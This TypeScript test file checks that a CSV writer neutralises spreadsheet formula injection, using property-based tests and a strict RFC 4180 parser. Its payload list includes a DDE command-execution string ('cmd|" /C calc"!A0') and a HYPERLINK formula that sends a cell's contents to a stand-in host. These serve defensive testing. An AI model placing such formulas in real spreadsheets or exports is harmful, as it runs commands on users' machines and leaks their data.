import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvLine, unguarded } from './csv.ts'

/** A strict reader of RFC 4180, written from its grammar. */
function readCsv(text: string): string[][] {
  const records: string[][] = []
  let at = 0
  while (at < text.length) {
    const record: string[] = []
    for (;;) {
      let value = ''
      if (text[at] === '"') {
        at++
        for (;;) {
          if (at >= text.length) throw new Error('a quote is not closed')
          if (text[at] !== '"') value += text[at++]
          else if (text[at + 1] === '"') {
            value += '"'
            at += 2
          } else break
        }
        at++
      } else while (at < text.length && !',\r\n"'.includes(text[at] as string)) value += text[at++]
      record.push(value)
      if (text[at] === ',') at++
      else if (text.startsWith('\r\n', at)) break
      else throw new Error(`neither a comma nor the end of a line at ${at}`)
    }
    at += 2
    records.push(record)
  }
  return records
}

/** What Excel, LibreOffice and Google's sheets take for a formula when it stands at the beginning of a cell, blanks aside. */
const looksLikeFormula = (cell: string) => /^[\s\0\u200b\ufeff\u00a0]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell)

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '\u3000＝',
  "'=",
  "''",
  '"=',
  ',=',
  ';=',
  '|=',
  '\u202e=',
]
const rest = [
  '1+1',
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://x.example?"&A1,"a")',
  'SUM(1;2)',
  '',
  '"',
  '""',
  '\r\n=1+1',
  ',=1+1',
  ';=1+1',
  '\t=1+1',
  '<b>',
  'ό,τι',
  'a"b,c\nd',
]
const payloads = starts.flatMap((start) => rest.map((end) => start + end))

describe('a cell', () => {
  it('of text is no formula, and comes back as it was', () => {
    expect(payloads.length).toBeGreaterThan(300)
    for (const payload of payloads) {
      const [[before, cell = '', after] = []] = readCsv(csvLine(['a', payload, 'z']))
      expect([before, after]).toEqual(['a', 'z'])
      expect(looksLikeFormula(cell)).toBe(false)
      expect(unguarded(cell)).toBe(payload.replaceAll('\0', '\ufffd'))
    }
    // The control: without the guard most of them are.
    expect(payloads.filter(looksLikeFormula).length).toBeGreaterThan(200)
  })

  it('of any text stays one cell, whatever it holds', () => {
    const piece = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...starts), fc.constantFrom(...rest))
    const text = fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join(''))
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
        const [read = []] = readCsv(csvLine(cells))
        expect(read.filter(looksLikeFormula)).toEqual([])
        expect(read.map(unguarded)).toEqual(cells.map((cell) => cell.replaceAll('\0', '\ufffd')))
      }),
      { numRuns: 2000 },
    )
  })

  it('of a number is that number in any locale; what is neither is JSON', () => {
    expect(csvLine([-5, 1234567.25, true, null, undefined, Number.NaN])).toBe('-5,1234567.25,true,,,\r\n')
    expect(readCsv(csvLine([[{ holder: 'a "b", c' }], ['=1']]))).toEqual([['[{"holder":"a \\"b\\", c"}]', '["=1"]']])
    expect(csvLine(['\ud800'])).toBe('"\ufffd"\r\n')
  })
})
